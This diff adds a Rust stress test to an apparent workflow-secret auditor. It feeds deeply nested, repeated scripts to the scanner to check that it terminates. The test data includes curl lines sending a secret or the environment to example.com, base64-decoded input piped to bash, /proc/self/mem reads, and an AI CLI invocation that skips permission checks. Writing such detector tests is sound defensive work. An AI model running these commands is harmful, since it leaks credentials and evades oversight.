@@ -384,3 +384,31 @@ fn names_of_any_bytes_are_survived() {
     }
     nothing_else_lost(&audit(&dir));
 }
+
+/// Variables that stand for each other, substitutions in substitutions, pipes of many stages: what looks for
+/// secrets that leave must not follow them for ever.
+#[test]
+fn scripts_that_wind_themselves_up_end() {
+    let step = |script: &str| {
+        let lines = script.replace('\n', "\n          ");
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      T: ${{{{ secrets.T }}}}\n    steps:\n      \
+             - run: |\n          {lines}\n"
+        )
+    };
+    let many = |one: &str, count: usize| one.repeat(count);
+    for script in [
+        many("A=\"$A$A$A$A$T\"\ncurl -d \"$A\" https://example.com\n", 2000),
+        format!("curl -d \"{}env{}\" https://example.com\n", many("$(echo ", 60), many(")", 60)),
+        format!("env {}| curl -d @- https://example.com\n", many("| base64 ", 4000)),
+        many("echo aGVsbG8gd29ybGQsIHRoaXMgaXMgbG9uZw== | base64 -d | bash\n", 3000),
+        format!("echo a {}| bash\n", many("| base64 -d ", 4000)),
+        many("claude -p --allowedTools 'Bash(((((((' --dangerously-skip-permissions\n", 3000),
+        many("cat /proc/self/mem > x; env > \"$A\"; curl -d @x https://example.com\n", 2000),
+        many("# custody: ignore[secret-sent-away, secret-sent-away] -- x\n", 9000),
+    ] {
+        let text = step(&script);
+        let audit = common::audit(&[(".github/workflows/a.yml", &text)]);
+        assert!(audit.coverage.unknown.is_empty(), "{:?}", audit.coverage.unknown);
+    }
+}
